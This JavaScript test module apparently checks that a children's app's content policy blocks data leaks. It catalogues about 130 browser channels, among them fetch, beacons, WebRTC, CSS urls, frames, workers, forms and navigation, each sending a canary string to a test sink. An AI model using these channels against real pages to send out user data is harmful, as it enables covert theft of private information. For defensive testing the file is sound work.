// @ts-check
// Every way known to us by which hostile script in the page could send a child's number to somebody.
// Each is a function that runs inside the app's frame (or inside its worker) with the address of the sink.

/** @typedef {import("./sink.js").Target} Target */
/** @typedef {(to: Target) => unknown} Way */

/** Ways that leave the page standing: all are tried in one page. @type {Record<string, Way>} */
export const STAYING = {
  "fetch": (to) => fetch(to.http, { method: "POST", mode: "no-cors", body: "CANARY77341" }),
  "fetch, keepalive": (to) => fetch(to.http, { mode: "no-cors", keepalive: true }),
  "XMLHttpRequest": (to) => {
    const request = new XMLHttpRequest();
    request.open("POST", to.http);
    request.send("CANARY77341");
  },
  "sendBeacon": (to) => navigator.sendBeacon(to.http, "CANARY77341"),
  "WebSocket": (to) => new WebSocket(to.ws),
  "WebSocketStream": (to) => new (/** @type {any} */ (window).WebSocketStream)(to.ws),
  "EventSource": (to) => new EventSource(to.http),
  "fetchLater": (to) => /** @type {any} */ (window).fetchLater(to.http, { activateAfter: 0 }),
  "WebTransport": (to) => new WebTransport(to.http.replace("http:", "https:")),
  "WebRTC": (to) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
    call.createDataChannel("x");
    return call.createOffer().then((offer) => call.setLocalDescription(offer));
  },
  "WebRTC, old name": (to) => {
    const call = new (/** @type {any} */ (window).webkitRTCPeerConnection)({ iceServers: [{ urls: to.stun }] });
    call.createDataChannel("x");
    return call.createOffer().then((/** @type {any} */ offer) => call.setLocalDescription(offer));
  },
  "WebRTC of an empty frame": (to) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    const call = new (/** @type {any} */ (frame.contentWindow).RTCPeerConnection)({ iceServers: [{ urls: to.stun }] });
    call.createDataChannel("x");
    return call.createOffer().then((/** @type {any} */ offer) => call.setLocalDescription(offer));
  },
  "WebRTC of a srcdoc frame": (to) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", "<p>x</p>");
    frame.onload = () => {
      const call = new /** @type {any} */ (frame.contentWindow).RTCPeerConnection({ iceServers: [{ urls: to.stun }] });
      call.createDataChannel("x");
      call.createOffer().then((/** @type {any} */ offer) => call.setLocalDescription(offer));
    };
    document.body.append(frame);
  },
  "WebRTC by a script in a srcdoc frame": (to) => {
    const frame = document.createElement("iframe");
    frame.setAttribute(
      "srcdoc",
      `<script>const c = new RTCPeerConnection({iceServers:[{urls:"${to.stun}"}]}); c.createDataChannel("x");
      c.createOffer().then(o => c.setLocalDescription(o))</script>`,
    );
    document.body.append(frame);
  },
  "WebRTC by a script in a blob frame": (to) => {
    const text = `<script>const c = new RTCPeerConnection({iceServers:[{urls:"${to.stun}"}]}); c.createDataChannel("x");
      c.createOffer().then(o => c.setLocalDescription(o))</script>`;
    const frame = document.createElement("iframe");
    frame.src = URL.createObjectURL(new Blob([text], { type: "text/html" }));
    document.body.append(frame);
  },
  "img": (to) => void (new Image().src = to.http),
  "img, srcset": (to) => void (new Image().srcset = `${to.http} 2x`),
  "img, attribution": (to) => document.createElement("img").setAttribute("attributionsrc", to.http),
  "input, image": (to) =>
    document.body.append(Object.assign(document.createElement("input"), { type: "image", src: to.http })),
  "video": (to) =>
    document.body.append(Object.assign(document.createElement("video"), { src: to.http, preload: "auto" })),
  "video, poster": (to) => document.body.append(Object.assign(document.createElement("video"), { poster: to.http })),
  "audio": (to) => void (new Audio(to.http).preload = "auto"),
  "track": (to) => {
    const video = Object.assign(document.createElement("video"), { crossOrigin: "anonymous" });
    const track = Object.assign(document.createElement("track"), { src: to.http, kind: "captions", default: true });
    video.append(track);
    document.body.append(video);
    track.track.mode = "hidden";
  },
  "svg image": (to) => {
    const svg = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", to.http);
    svg.append(image);
  },
  "svg feImage": (to) => {
    const svg = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
    const filter = svg.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "filter"));
    filter.id = "hostile-filter";
    const image = document.createElementNS("http://www.w3.org/2000/svg", "feImage");
    image.setAttribute("href", to.http);
    filter.append(image);
    document.body.style.filter = "url(#hostile-filter)";
  },
  "object": (to) => document.body.append(Object.assign(document.createElement("object"), { data: to.http })),
  "embed": (to) => document.body.append(Object.assign(document.createElement("embed"), { src: to.http })),
  "stylesheet": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${to.http}.css` })),
  "style element, import": (to) =>
    document.head.append(
      Object.assign(document.createElement("style"), { textContent: `@import url(${to.http}.css);` }),
    ),
  "style element, picture": (to) => {
    document.head.append(
      Object.assign(document.createElement("style"), { textContent: `.hostile-1 { background: url(${to.http}) }` }),
    );
    document.body.append(Object.assign(document.createElement("div"), { className: "hostile-1", textContent: "x" }));
  },
  "style attribute": (to) => {
    const box = document.body.appendChild(document.createElement("div"));
    box.setAttribute("style", `width: 9px; height: 9px; background: url(${to.http})`);
  },
  "style property": (to) => {
    const box = document.body.appendChild(document.createElement("div"));
    Object.assign(box.style, { width: "9px", height: "9px", backgroundImage: `url(${to.http})` });
  },
  "style property, cursor": (to) => void (document.documentElement.style.cursor = `url(${to.http}), auto`),
  "style property, list mark": (to) => {
    const item = document.body.appendChild(document.createElement("li"));
    item.style.listStyleImage = `url(${to.http})`;
  },
  "constructed style sheet": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`.hostile-2 { background: url(${to.http}) }`);
    document.adoptedStyleSheets = [sheet];
    document.body.append(Object.assign(document.createElement("div"), { className: "hostile-2", textContent: "x" }));
  },
  "font": (to) => new FontFace("hostile", `url(${to.http})`).load(),
  "table, background": (to) => {
    const table = document.body.appendChild(document.createElement("table"));
    table.setAttribute("background", to.http);
    table.insertRow().insertCell().textContent = "x";
  },
  "link, icon": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "icon", href: to.http })),
  "link, manifest": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "manifest", href: to.http })),
  "link, prefetch": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to.http })),
  "link, preload of a picture": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: to.http })),
  "link, preload of data": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: to.http })),
  "link, modulepreload": (to) =>
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "modulepreload", href: `${to.http}.js` }),
    ),
  "link, preconnect": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: to.http })),
  "link, dns-prefetch": (to) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: to.http })),
  "speculation rules, prefetch": (to) => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    /** @type {any} */ (rules).textContent = JSON.stringify({
      prefetch: [{ source: "list", urls: [to.http], eagerness: "immediate" }],
    });
    document.head.append(rules);
  },
  "speculation rules, prerender": (to) => {
    const rules = document.createElement("script");
    rules.type = "speculationrules";
    /** @type {any} */ (rules).textContent = JSON.stringify({
      prerender: [{ source: "list", urls: [to.http], eagerness: "immediate" }],
    });
    document.head.append(rules);
  },
  "script element": (to) =>
    document.head.append(Object.assign(document.createElement("script"), { src: `${to.http}.js` })),
  "script element, inline": (to) =>
    document.head.append(
      Object.assign(document.createElement("script"), { textContent: `new Image().src = "${to.http}"` }),
    ),
  "script element, module": (to) =>
    document.head.append(Object.assign(document.createElement("script"), { type: "module", src: `${to.http}.js` })),
  "event attribute": (to) => {
    const button = document.body.appendChild(document.createElement("button"));
    button.setAttribute("onclick", `navigator.sendBeacon("${to.http}")`);
    button.click();
  },
  // What a debugger evaluates may use eval whatever the policy says: these wait until it has let go.
  "import()": (to) => void setTimeout(() => void import(`${to.http}.js`)),
  "eval": (to) => void setTimeout(() => (0, eval)(`import("${to.http}.js")`)),
  "Function": (to) => void setTimeout(() => new Function(`import("${to.http}.js")`)()),
  "setTimeout of a text": (to) => void setTimeout(() => setTimeout(/** @type {any} */ (`import("${to.http}.js")`))),
  "frame": (to) => document.body.append(Object.assign(document.createElement("iframe"), { src: to.http })),
  "frame, javascript:": (to) =>
    document.body.append(
      Object.assign(document.createElement("iframe"), { src: `javascript:void(new Image().src="${to.http}")` }),
    ),
  "frame, data:": (to) =>
    document.body.append(
      Object.assign(document.createElement("iframe"), { src: `data:text/html,<img src="${to.http}">` }),
    ),
  "frame, blob:": (to) =>
    document.body.append(
      Object.assign(document.createElement("iframe"), {
        src: URL.createObjectURL(new Blob([`<img src="${to.http}">`], { type: "text/html" })),
      }),
    ),
  "frame, srcdoc": (to) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", `<img src="${to.http}">`);
    document.body.append(frame);
  },
  "frame, srcdoc with a script": (to) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", `<script>new Image().src="${to.http}"</script>`);
    document.body.append(frame);
  },
  "frame, srcdoc that goes on": (to) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("srcdoc", `<meta http-equiv="refresh" content="0;url=${to.http}">`);
    document.body.append(frame);
  },
  "frame, empty, fetch": (to) =>
    /** @type {any} */ (document.body.appendChild(document.createElement("iframe")).contentWindow).fetch(to.http, {
      mode: "no-cors",
    }),
  "frame, empty, location": (to) =>
    /** @type {any} */ (document.body.appendChild(document.createElement("iframe")).contentWindow).location.replace(
      to.http,
    ),
  "frame, empty, picture": (to) => {
    const inner = document.body.appendChild(document.createElement("iframe")).contentDocument;
    inner?.body.append(Object.assign(inner.createElement("img"), { src: to.http }));
  },
  "fenced frame": (to) => {
    const frame = /** @type {any} */ (document.createElement("fencedframe"));
    frame.config = new (/** @type {any} */ (window).FencedFrameConfig)(to.http);
    document.body.append(frame);
  },
  "markup written in": (to) => {
    document.body.appendChild(document.createElement("div")).innerHTML = `<img src="${to.http}">`;
  },
  "markup parsed by a range": (to) =>
    document.body.append(document.createRange().createContextualFragment(`<img src="${to.http}">`)),
  "markup by the parser": (to) =>
    document.body.append(
      document.adoptNode(new DOMParser().parseFromString(`<img src="${to.http}">`, "text/html").body),
    ),
  "document.write into a frame": (to) =>
    /** @type {any} */ (document.body.appendChild(document.createElement("iframe")).contentDocument).write(
      `<img src="${to.http}">`,
    ),
  "form into a frame": (to) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "hostile-form" });
    const form = Object.assign(document.createElement("form"), {
      action: to.http,
      method: "post",
      target: "hostile-form",
    });
    document.body.append(frame, form);
    form.submit();
  },
  "worker from an address": (to) => new Worker(`${to.http}.js`),
  "worker from a blob": (to) =>
    new Worker(
      URL.createObjectURL(new Blob([`fetch("${to.http}", { mode: "no-cors" })`], { type: "text/javascript" })),
    ),
  "worker from a blob, module": (to) =>
    new Worker(URL.createObjectURL(new Blob([`import "${to.http}.js"`], { type: "text/javascript" })), {
      type: "module",
    }),
  "shared worker": (to) =>
    new SharedWorker(
      URL.createObjectURL(new Blob([`fetch("${to.http}", { mode: "no-cors" })`], { type: "text/javascript" })),
    ),
  "service worker": (to) => navigator.serviceWorker.register(`${to.http}.js`),
  "audio worklet": (to) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${to.http}.js`),
  "paint worklet": (to) => /** @type {any} */ (CSS).paintWorklet.addModule(`${to.http}.js`),
  "shared storage worklet": (to) => /** @type {any} */ (window).sharedStorage.worklet.addModule(`${to.http}.js`),
  "WebAssembly, streaming": (to) => WebAssembly.compileStreaming(fetch(to.http, { mode: "cors" })),
  "cache": (to) => caches.open("x").then((cache) => cache.add(to.http)),
  "PaymentRequest": (to) =>
    new PaymentRequest([{ supportedMethods: to.http }], {
      total: { label: "x", amount: { currency: "GBP", value: "1" } },
    }).canMakePayment(),
  "sign-in (FedCM)": (to) =>
    navigator.credentials.get(
      /** @type {any} */ ({ identity: { providers: [{ configURL: to.http, clientId: "x" }] } }),
    ),
  "passkey": (to) => navigator.credentials.get({ publicKey: { rpId: to.host, challenge: new Uint8Array(16) } }),
  "notification, icon": (to) => new Notification("x", { icon: to.http }),
  "media artwork": (to) =>
    void (navigator.mediaSession.metadata = new MediaMetadata({ title: "x", artwork: [{ src: to.http }] })),
};

/**
 * Ways that would take the page or its frame away, or open another: each is tried in a page of its own.
 * @type {Record<string, Way>}
 */
export const LEAVING = {
  // In a frame made from text, a place on the page has the address of the page around it.
  "link, ping": (to) => {
    const link = Object.assign(document.createElement("a"), { href: "#nowhere", ping: to.http });
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  },
  "location": (to) => void (location.href = to.http),
  "location.replace": (to) => location.replace(to.http),
  "location of the outer page": (to) => void (/** @type {any} */ (top).location = to.http),
  "link": (to) => {
    const link = Object.assign(document.createElement("a"), { href: to.http });
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  },
  "link to a new tab": (to) => {
    const link = Object.assign(document.createElement("a"), { href: to.http, target: "_blank" });
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  },
  "link to the outer page": (to) => {
    const link = Object.assign(document.createElement("a"), { href: to.http, target: "_top" });
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  },
  "link that downloads": (to) => {
    const link = Object.assign(document.createElement("a"), { href: to.http, download: "x" });
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  },
  "meta refresh": (to) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${to.http}`;
    document.head.append(meta);
  },
  "window.open": (to) => window.open(to.http),
  "window.open, noopener": (to) => window.open(to.http, "_blank", "noopener"),
  "an empty window that goes on": (to) => void (/** @type {any} */ (window.open("about:blank")).location = to.http),
  "form, GET": (to) => {
    const form = Object.assign(document.createElement("form"), { action: to.http, method: "get" });
    document.body.append(form);
    form.submit();
  },
  "form, POST": (to) => {
    const form = Object.assign(document.createElement("form"), { action: to.http, method: "post" });
    document.body.append(form);
    form.requestSubmit();
  },
  "form to a new tab": (to) => {
    const form = Object.assign(document.createElement("form"), { action: to.http, method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
  },
  "a new base for the links": (to) => {
    document.head.append(Object.assign(document.createElement("base"), { href: to.http }));
    const link = Object.assign(document.createElement("a"), { href: "x" });
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  },
  "navigation API": (to) => /** @type {any} */ (window).navigation.navigate(to.http),
  "beacon on leaving": (to) => {
    addEventListener("pagehide", () => navigator.sendBeacon(to.http, "CANARY77341"));
    location.reload();
  },
};

/** Ways out of the worker. @type {Record<string, Way>} */
export const IN_WORKER = {
  "worker: fetch": (to) => fetch(to.http, { method: "POST", mode: "no-cors", body: "CANARY77341" }),
  "worker: XMLHttpRequest": (to) => {
    const request = new XMLHttpRequest();
    request.open("POST", to.http);
    request.send("CANARY77341");
  },
  "worker: WebSocket": (to) => new WebSocket(to.ws),
  "worker: WebSocketStream": (to) => new (/** @type {any} */ (self).WebSocketStream)(to.ws),
  "worker: EventSource": (to) => new EventSource(to.http),
  "worker: WebTransport": (to) => new WebTransport(to.http.replace("http:", "https:")),
  "worker: import()": (to) => void setTimeout(() => void import(`${to.http}.js`)),
  "worker: importScripts": (to) => void setTimeout(() => /** @type {any} */ (self).importScripts(`${to.http}.js`)),
  "worker: eval": (to) => void setTimeout(() => (0, eval)(`fetch("${to.http}", { mode: "no-cors" })`)),
  "worker: Function": (to) => void setTimeout(() => new Function(`fetch("${to.http}", { mode: "no-cors" })`)()),
  "worker: a worker from an address": (to) => new Worker(`${to.http}.js`),
  "worker: a worker from a blob": (to) =>
    new Worker(
      URL.createObjectURL(new Blob([`fetch("${to.http}", { mode: "no-cors" })`], { type: "text/javascript" })),
    ),
  "worker: font": (to) => /** @type {any} */ (new FontFace("hostile", `url(${to.http})`)).load(),
  "worker: cache": (to) => caches.open("x").then((cache) => cache.add(to.http)),
  "worker: WebAssembly, streaming": (to) => WebAssembly.compileStreaming(fetch(to.http)),
};

/**
 * Ways to the page's own host, which a frame policy that names the host would let through.
 * @type {Record<string, () => unknown>}
 */
export const TO_OWN_HOST = {
  "location.search": () => void (location.search = "CANARY77341"),
  "location, the app again": () => void (location.href = "app.html?CANARY77341"),
  "location, another path": () => void (location.href = "/CANARY77341"),
  "history and reload": () => (history.pushState(1, "", "?CANARY77341"), location.reload()),
  "link": () => {
    const link = Object.assign(document.createElement("a"), { href: "index.html?CANARY77341" });
    link.addEventListener("click", (event) => event.stopPropagation());
    document.body.append(link);
    link.click();
  },
  "form": () => {
    const form = Object.assign(document.createElement("form"), { action: "?CANARY77341", method: "post" });
    document.body.append(form);
    form.submit();
  },
  "fetch": () => fetch("?CANARY77341"),
  "frame": () => document.body.append(Object.assign(document.createElement("iframe"), { src: "app.html?CANARY77341" })),
  "img": () => void (new Image().src = "?CANARY77341"),
  "worker": () => new Worker("?CANARY77341"),
  "service worker": () => navigator.serviceWorker.register("app.html?CANARY77341"),
};

/**
 * Ways by which the full Chromium looks up a name, and mostly connects to it, although the page may ask it nothing.
 * Only a header or a browser policy stops that; names.spec.js tries both.
 */
export const TELLS_NAMES = [
  "link, preconnect", "link, dns-prefetch", "frame", "frame, empty, location", "location", "location.replace", "link",
  "link that downloads", "meta refresh", "navigation API",
];

/**
 * Ways that reach nobody in the headless browser even when nothing stands against them, so nothing is proved for them
 * here. But for the first two, the full Chromium is silent too.
 * The control asserts that this list is exact.
 * @type {Record<string, string>}
 */
const NOT_PROVABLE = {
  "link, preconnect":
    "the headless browser warms no connections up for a frame: proved in the full one, in names.spec.js",
  "link, dns-prefetch": "the headless browser looks no names up ahead: proved in the full one, in names.spec.js",
  "worker: a worker from an address": "a worker of another host is refused by every browser",
  "worker from an address": "a worker of another host is refused by every browser",
  "service worker": "a service worker of another host is refused by every browser",
  "img, attribution": "neither browser registers attributions",
  "link, icon": "only the outermost page's icon is fetched",
  "link, manifest": "fetched only when a page is installed",
  "speculation rules, prefetch": "followed only in the outermost page",
  "speculation rules, prerender": "followed only in the outermost page",
  "fenced frame": "switched off in this browser",
  "shared storage worklet": "switched off in this browser",
  "PaymentRequest": "neither browser has a payment service",
  "passkey": "asks only hosts with a certificate",
  "notification, icon": "needs a permission that nobody can give here",
  "media artwork": "fetched only for a system's media controls",
};

/** A page that is a file has no origin, and these need one. @type {Record<string, string>} */
const NOT_PROVABLE_FROM_A_FILE = {
  "shared worker": "a file has no origin to share one in",
  "worker from a blob, module": "a file's worker may not import from elsewhere",
};

/** @param {import("./editions.js").Edition} edition */
export const notProvable = (edition) =>
  Object.keys({ ...NOT_PROVABLE, ...(edition === "offline" ? NOT_PROVABLE_FROM_A_FILE : {}) }).sort();
